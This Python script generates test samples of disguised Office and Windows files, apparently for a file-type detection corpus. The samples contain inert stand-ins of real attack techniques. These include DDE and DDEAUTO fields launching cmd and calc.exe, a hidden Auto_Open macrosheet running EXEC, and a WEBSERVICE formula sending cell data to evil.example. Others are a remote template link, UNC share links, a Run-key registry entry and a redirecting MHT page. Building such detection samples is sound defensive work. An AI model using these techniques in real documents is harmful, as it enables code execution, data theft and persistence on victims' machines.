#!/usr/bin/env python3
"""Generates the samples of issue 8's classes (run from anywhere): Office documents that look
like text, formulas and field codes that reach outside the document, legacy files whose type
or encryption is read from their compound-file structure.

Everything goes to corpus/samples/disguised/ (manifest: manifest/disguised.toml). Everything is built here from literal text; the compound files by the
small writer below (one regular-sector FAT, no mini stream: every stream is padded to 4 KiB).
The "payloads" are inert: DDE calls of calc.exe, links to hosts under .example, VBA "source"
as plain text. Nothing here runs anything.
"""

from __future__ import annotations

import base64
import struct
import sys
import zipfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import office  # noqa: E402  (the OOXML helpers: rels, types, docx, write_zip)

ROOT = Path(__file__).resolve().parent.parent / "samples"
OUT = ROOT / "disguised"
LEGACY_BOOK = ROOT / "office" / "legacy_book.xls"
office.OUT = OUT  # the OOXML helpers write here too
DATE = (2024, 4, 1, 9, 0, 0)
S_NS = office.S_NS
W_NS = office.W_NS
DECL = office.DECL
SHEET_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"


def write(path: Path, data: bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    print(f"wrote {path.relative_to(ROOT.parent)} ({len(data)} bytes)")


# --- Office XML that arrives as text --------------------------------------------------------

def flat_opc() -> str:
    part = ('<pkg:part pkg:name="{n}" pkg:contentType="{ct}"{extra}>{data}</pkg:part>')
    rel_ct = "application/vnd.openxmlformats-package.relationships+xml"
    doc = (f'<w:document xmlns:w="{W_NS}" xmlns:r="{office.RT}"><w:body>'
           '<w:p><w:r><w:t>フラットOPC形式の議事録</w:t></w:r></w:p>'
           '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
           'r:id="rId5" ProgID="Package"/></w:object></w:r></w:p></w:body></w:document>')
    parts = [
        part.format(n="/_rels/.rels", ct=rel_ct, extra="", data="<pkg:xmlData>" + office.rels(
            ("rId1", "officeDocument", "word/document.xml")).replace(DECL, "") + "</pkg:xmlData>"),
        part.format(n="/word/_rels/document.xml.rels", ct=rel_ct, extra="", data="<pkg:xmlData>" + office.rels(
            ("rId5", "oleObject", "embeddings/oleObject1.bin"),
            ("rId6", "attachedTemplate", "http://template.evil.example/t.dotm", "External"),
        ).replace(DECL, "") + "</pkg:xmlData>"),
        part.format(n="/word/document.xml", ct=office.WORD_MAIN, extra="",
                    data=f"<pkg:xmlData>{doc}</pkg:xmlData>"),
        part.format(n="/word/embeddings/oleObject1.bin",
                    ct="application/vnd.openxmlformats-officedocument.oleObject",
                    extra=' pkg:compression="store"',
                    data="<pkg:binaryData>" + base64.b64encode(office.fake_ole("oleObject1")).decode()
                         + "</pkg:binaryData>"),
    ]
    return ('<?xml version="1.0" standalone="yes"?>\n<?mso-application progid="Word.Document"?>\n'
            '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
            + "".join(parts) + "</pkg:package>\n")


WORD2003 = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<?mso-application progid="Word.Document"?>
<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" xmlns:o="urn:schemas-microsoft-com:office:office">
<w:body>
<w:p><w:r><w:t>Word 2003 XML の通知文</w:t></w:r></w:p>
<w:p><w:hlink w:dest="http://evil.example/login"><w:r><w:t>詳細</w:t></w:r></w:hlink></w:p>
<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r></w:p>
<w:p><w:r><w:binData w:name="oledata.mso">0M8R4KGxGuEAAAAAAAAAAAAAAAAAAAAAPgADAP7/CQAGAAAA</w:binData></w:r></w:p>
</w:body></w:wordDocument>
"""

SPREADSHEETML = """<?xml version="1.0"?>
<?mso-application progid="Excel.Sheet"?>
<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">
<Worksheet ss:Name="集計表"><Table>
<Row><Cell><Data ss:Type="String">件数</Data></Cell><Cell><Data ss:Type="Number">12</Data></Cell></Row>
<Row><Cell ss:Formula="=cmd|'/c calc.exe'!A1"><Data ss:Type="Number">0</Data></Cell><Cell ss:HRef="http://evil.example/"><Data ss:Type="String">リンク</Data></Cell></Row>
</Table></Worksheet></Workbook>
"""

SYLK = ("ID;PWXL;N;E\r\nP;PGeneral\r\nC;Y1;X1;K\"SYLK\"\r\n"
        "C;Y2;X1;K0;EEXEC(\"calc.exe\")\r\nC;Y3;X1;K0;EHALT()\r\nE\r\n")

SHELL_TEXTS = {
    "web_query.txt": "WEB\r\n1\r\nhttp://evil.example/q.aspx?id=[\"id\"]\r\n",
    "internet_shortcut.txt": "[InternetShortcut]\r\nURL=file://evil.example/share/invoice.exe\r\nIconIndex=0\r\n",
    "explorer_command.txt": "[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\share\\icon.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n",
    "registry.txt": None,  # UTF-16 with BOM, as regedit writes it (below)
    "library.xml": ('<?xml version="1.0" encoding="UTF-8"?>\r\n<libraryDescription '
                    'xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList>'
                    '<searchConnectorDescription><simpleLocation><url>\\\\evil.example\\share</url>'
                    '</simpleLocation></searchConnectorDescription></searchConnectorDescriptionList>'
                    '</libraryDescription>\r\n'),
    "setup.txt": '[Version]\r\nSignature="$Windows NT$"\r\n[DefaultInstall]\r\nRunPreSetupCommands=x\r\n',
}
# A MIME single-file web page (what Word saves as "Single File Web Page" and what attackers
# name .doc): no mail header fields, only MIME-Version and a multipart/related type.
MHT = ('MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="----=_NextPart_01"; type="text/html"\r\n'
       '\r\n------=_NextPart_01\r\nContent-Location: file:///C:/page.htm\r\n'
       'Content-Type: text/html; charset="utf-8"\r\n\r\n'
       '<html xmlns:o="urn:schemas-microsoft-com:office:office"><body>'
       '<script>document.location="http://evil.example/"</script><p>単一ファイルWebページ</p></body></html>\r\n'
       '------=_NextPart_01\r\nContent-Location: file:///C:/page_files/editdata.mso\r\n'
       'Content-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n'
       + base64.b64encode(b"ActiveMime\0\0inert stand-in").decode() + '\r\n------=_NextPart_01--\r\n')

REGISTRY = ("Windows Registry Editor Version 5.00\r\n\r\n"
            "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"
            "\"x\"=\"calc.exe\"\r\n")


# --- OOXML: formulas, names and fields that reach outside -----------------------------------

def formulas_xlsx() -> None:
    wb_ct = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    sheet = (f'{DECL}<worksheet xmlns="{S_NS}"><sheetData>'
             '<row r="1"><c r="A1" t="inlineStr"><is><t>予算</t></is></c><c r="B1"><v>100</v></c></row>'
             '<row r="2"><c r="A2"><f>DDE("cmd","/c calc.exe","A1")</f><v>0</v></c>'
             '<c r="B2"><f>_xlfn.WEBSERVICE("http://evil.example/?"&amp;B1)</f><v>1</v></c>'
             '<c r="C2"><f>[1]Sheet1!A1</f><v>2</v></c>'
             '<c r="D2"><f>SUM(B1,1)</f><v>101</v></c></row>'
             '<row r="3"><c r="A3"><f t="shared" si="0" ref="A3:A4">RTD("x.y",,B1)</f><v>3</v></c></row>'
             '<row r="4"><c r="A4"><f t="shared" si="0"/><v>4</v></c></row>'
             '</sheetData></worksheet>')
    macro = (f'{DECL}<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" '
             f'xmlns="{S_NS}"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row>'
             '</sheetData></xm:macrosheet>')
    office.write_zip("formulas_outside.xlsx", [
        ("[Content_Types].xml", office.types({
            "/xl/workbook.xml": wb_ct,
            "/xl/worksheets/sheet1.xml": SHEET_CT,
            "/xl/macrosheets/sheet2.xml": "application/vnd.ms-excel.macrosheet+xml",
            "/xl/externalLinks/externalLink1.xml":
                "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        })),
        ("_rels/.rels", office.rels(("rId1", "officeDocument", "xl/workbook.xml"))),
        ("xl/workbook.xml", f'{DECL}<workbook xmlns="{S_NS}" xmlns:r="{office.RT}"><sheets>'
                            '<sheet name="集計" sheetId="1" r:id="rId1"/>'
                            '<sheet name="Macro1" sheetId="2" state="hidden" r:id="rId2"/></sheets>'
                            '<externalReferences><externalReference r:id="rId3"/></externalReferences>'
                            '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1'
                            '</definedName><definedName name="Budget">集計!$B$1</definedName></definedNames>'
                            '</workbook>'),
        ("xl/_rels/workbook.xml.rels", office.rels(
            ("rId1", "worksheet", "worksheets/sheet1.xml"),
            ("rId2", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
             "macrosheets/sheet2.xml"),
            ("rId3", "externalLink", "externalLinks/externalLink1.xml"))),
        ("xl/worksheets/sheet1.xml", sheet),
        ("xl/macrosheets/sheet2.xml", macro),
        ("xl/externalLinks/externalLink1.xml",
         f'{DECL}<externalLink xmlns="{S_NS}"><externalBook xmlns:r="{office.RT}" r:id="rId1"/></externalLink>'),
        ("xl/externalLinks/_rels/externalLink1.xml.rels",
         office.rels(("rId1", "externalLinkPath", "file:///\\\\evil.example\\share\\book.xlsx", "External"))),
    ])


def fields_docm() -> None:
    def field(pieces: list[str], result: str) -> str:
        runs = "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces)
        return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs +
                '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
                f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    body = [office.para("フィールドコードの見本")]
    for i in range(12):
        body.append(field([f' HYPERLINK "http://www{i}.evil.example/a?b={i}" '], f"リンク{i}"))
    body.append(field([' HYPERLINK "https://split.', 'evil.example/x" \\o "tip" '], "分割リンク"))
    body.append(field([' HYPERLINK "file:///C:/Windows/System32/calc.exe" '], "ローカル"))
    body.append(field([' INCLUDEPICTURE "http://tracker.evil.example/p.png" \\d '], "画像"))
    body.append(field([' INCLUDETEXT "\\\\\\\\evil.example\\\\share\\\\t.docx" '], "挿入"))
    body.append('<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://simple.evil.example/&quot; ">'
                '<w:r><w:t>単純フィールド</w:t></w:r></w:fldSimple></w:p>')
    body.append('<w:p><w:fldSimple w:instr=" LINK Excel.Sheet.12 &quot;\\\\\\\\evil.example\\\\b.xlsx&quot; ">'
                '<w:r><w:t>リンク貼り付け</w:t></w:r></w:fldSimple></w:p>')
    office.docx("hyperlink_fields.docm", "".join(body),
                main_ct="application/vnd.ms-word.document.macroEnabled.main+xml")


# --- compound files -------------------------------------------------------------------------

SECTOR = 512
ENDOFCHAIN, FREESECT, FATSECT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD


def cfb(entries: list[tuple[str, bytes | None]]) -> bytes:
    """A compound file. `entries` are (path, data) with `/`-separated paths; data None makes a
    storage. Every stream is padded to 4096 bytes so that none lives in the mini stream."""
    # Directory tree: node = {name, children, data}
    root = {"name": "Root Entry", "children": {}, "data": None, "storage": True}
    for path, data in entries:
        node = root
        parts = path.strip("/").split("/")
        for p in parts[:-1]:
            node = node["children"].setdefault(p, {"name": p, "children": {}, "data": None, "storage": True})
        leaf = node["children"].setdefault(parts[-1], {"name": parts[-1], "children": {}, "data": None,
                                                       "storage": data is None})
        leaf["data"], leaf["storage"] = data, data is None
    order: list[dict] = []

    def number(node):
        node["id"] = len(order)
        order.append(node)
        for c in node["children"].values():
            number(c)
    number(root)

    def key(n):
        return (len(n["name"]), n["name"].upper())

    # Children of each storage as a degenerate red-black tree: a right-leaning chain, all black.
    for n in order:
        kids = sorted(n["children"].values(), key=key)
        n["child"] = kids[0]["id"] if kids else FREESECT
        for a, b in zip(kids, kids[1:] + [None]):
            a["left"], a["right"] = FREESECT, (b["id"] if b else FREESECT)
    root["left"] = root["right"] = FREESECT
    # Sectors: streams first, then the directory, then the FAT.
    sectors: list[bytes] = []
    fat: list[int] = []

    def alloc(data: bytes) -> int:
        start = len(sectors)
        n = max(1, -(-len(data) // SECTOR))
        for i in range(n):
            sectors.append(data[i * SECTOR:(i + 1) * SECTOR].ljust(SECTOR, b"\0"))
            fat.append(start + i + 1 if i + 1 < n else ENDOFCHAIN)
        return start

    for n in order:
        if not n["storage"]:
            data = n["data"].ljust(4096, b"\0") if len(n["data"]) < 4096 else n["data"]
            n["start"], n["size"] = alloc(data), len(data)
    dir_bytes = b""
    for n in order:
        name = n["name"].encode("utf-16-le") + b"\0\0"
        typ = 5 if n is root else (1 if n["storage"] else 2)
        dir_bytes += (name.ljust(64, b"\0") + struct.pack("<HBB", len(name), typ, 1)
                      + struct.pack("<III", n["left"], n["right"], n["child"]) + b"\0" * 16
                      + b"\0" * 4 + b"\0" * 16
                      + struct.pack("<IQ", n.get("start", ENDOFCHAIN if n is root else 0), n.get("size", 0)))
    while len(dir_bytes) % SECTOR:
        dir_bytes += (b"\0" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", FREESECT, FREESECT, FREESECT)
                      + b"\0" * 36 + struct.pack("<IQ", 0, 0))
    dir_start = alloc(dir_bytes)
    # FAT sectors (the FAT describes itself as FATSECT).
    n_fat = 1
    while (len(sectors) + n_fat) > n_fat * 128:
        n_fat += 1
    fat_start = len(sectors)
    fat += [FATSECT] * n_fat
    fat += [FREESECT] * (n_fat * 128 - len(fat))
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    for i in range(n_fat):
        sectors.append(fat_bytes[i * SECTOR:(i + 1) * SECTOR])
    difat = [fat_start + i for i in range(n_fat)] + [FREESECT] * (109 - n_fat)
    header = (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, n_fat, dir_start, 0, 4096, ENDOFCHAIN, 0, ENDOFCHAIN, 0)
              + struct.pack("<109I", *difat))
    return header + b"".join(sectors)


def biff(typ: int, data: bytes) -> bytes:
    return struct.pack("<HH", typ, len(data)) + data


def encrypted_xls() -> bytes:
    """A workbook whose globals carry a FILEPASS record (RC4, Excel's default password)."""
    bof = biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
    filepass = biff(0x002F, struct.pack("<HHH", 1, 1, 1) + b"\0" * 48)
    return cfb([("Workbook", bof + filepass + biff(0x000A, b""))])


def encrypted_doc() -> bytes:
    """A Word binary document whose FIB says fEncrypted."""
    fib = struct.pack("<HHHHHH", 0xA5EC, 0x00C1, 0, 0, 0, 0x0100) + b"\0" * 52
    return cfb([("WordDocument", fib), ("1Table", b"\0" * 8)])


def xls_with_embedded_doc() -> bytes | None:
    """The corpus's LibreOffice-made workbook with an embedded Word document's storage added
    (`MBD…/WordDocument`, as Excel stores embedded objects): still a workbook."""
    src = LEGACY_BOOK
    if not src.exists():
        return None
    streams = read_cfb_root_streams(src.read_bytes())
    entries: list[tuple[str, bytes | None]] = [(n, d) for n, d in streams]
    fib = struct.pack("<HHHHHH", 0xA5EC, 0x00C1, 0, 0, 0, 0) + b"\0" * 52
    entries += [("MBD00A1B2C3", None), ("MBD00A1B2C3/WordDocument", fib),
                ("MBD00A1B2C3/\x01Ole10Native", b"\0\0\0\0inert")]
    return cfb(entries)


def read_cfb_root_streams(b: bytes) -> list[tuple[str, bytes]]:
    """The streams directly under the root of a compound file (regular and mini streams)."""
    ssz = 1 << struct.unpack_from("<H", b, 30)[0]
    mssz = 1 << struct.unpack_from("<H", b, 32)[0]
    n_fat, dir_start = struct.unpack_from("<II", b, 44)
    mini_cut, minifat_start, n_minifat, difat_start, n_difat = struct.unpack_from("<IIIII", b, 56)
    difat = list(struct.unpack_from("<109I", b, 76))
    sec = lambda i: b[(i + 1) * ssz:(i + 2) * ssz]  # noqa: E731
    while difat_start not in (ENDOFCHAIN, FREESECT):
        d = sec(difat_start)
        difat += list(struct.unpack_from(f"<{ssz // 4 - 1}I", d))
        difat_start = struct.unpack_from("<I", d, ssz - 4)[0]
    fat: list[int] = []
    for s in difat[:n_fat]:
        fat += list(struct.unpack_from(f"<{ssz // 4}I", sec(s)))

    def chain(start, table):
        out, seen = [], set()
        while start not in (ENDOFCHAIN, FREESECT) and start not in seen and start < len(table):
            seen.add(start)
            out.append(start)
            start = table[start]
        return out
    dirs = b"".join(sec(s) for s in chain(dir_start, fat))
    ents = [dirs[i:i + 128] for i in range(0, len(dirs), 128)]
    root = ents[0]
    mini_data = b"".join(sec(s) for s in chain(struct.unpack_from("<I", root, 116)[0], fat))
    minifat: list[int] = []
    for s in chain(minifat_start, fat):
        minifat += list(struct.unpack_from(f"<{ssz // 4}I", sec(s)))
    out = []

    def walk(i):
        if i in (FREESECT,) or i >= len(ents):
            return
        e = ents[i]
        nlen, typ = struct.unpack_from("<HB", e, 64)
        left, right, child = struct.unpack_from("<III", e, 68)
        start, size = struct.unpack_from("<IQ", e, 116)
        walk(left)
        if typ == 2:
            name = e[:max(0, nlen - 2)].decode("utf-16-le")
            if size < mini_cut:
                data = b"".join(mini_data[s * mssz:(s + 1) * mssz] for s in chain(start, minifat))
            else:
                data = b"".join(sec(s) for s in chain(start, fat))
            out.append((name, data[:size]))
        walk(right)
    walk(struct.unpack_from("<I", root, 76)[0])
    return out


def main() -> None:
    write(OUT / "flat_opc_ole.xml", flat_opc().encode())
    write(OUT / "word2003_bindata.xml", WORD2003.encode())
    write(OUT / "spreadsheetml_dde.xml", SPREADSHEETML.encode())
    write(OUT / "sylk_macro.slk", SYLK.encode())
    formulas_xlsx()
    fields_docm()
    write(OUT / "encrypted_filepass.xls", encrypted_xls())
    write(OUT / "encrypted_fib.doc", encrypted_doc())
    xls = xls_with_embedded_doc()
    if xls is not None:
        write(OUT / "embedded_word.xls", xls)
    write(OUT / "single_file_page.mht", MHT.encode())
    for name, text in SHELL_TEXTS.items():
        data = (b"\xff\xfe" + REGISTRY.encode("utf-16-le")) if text is None else text.encode()
        write(OUT / name, data)


if __name__ == "__main__":
    main()
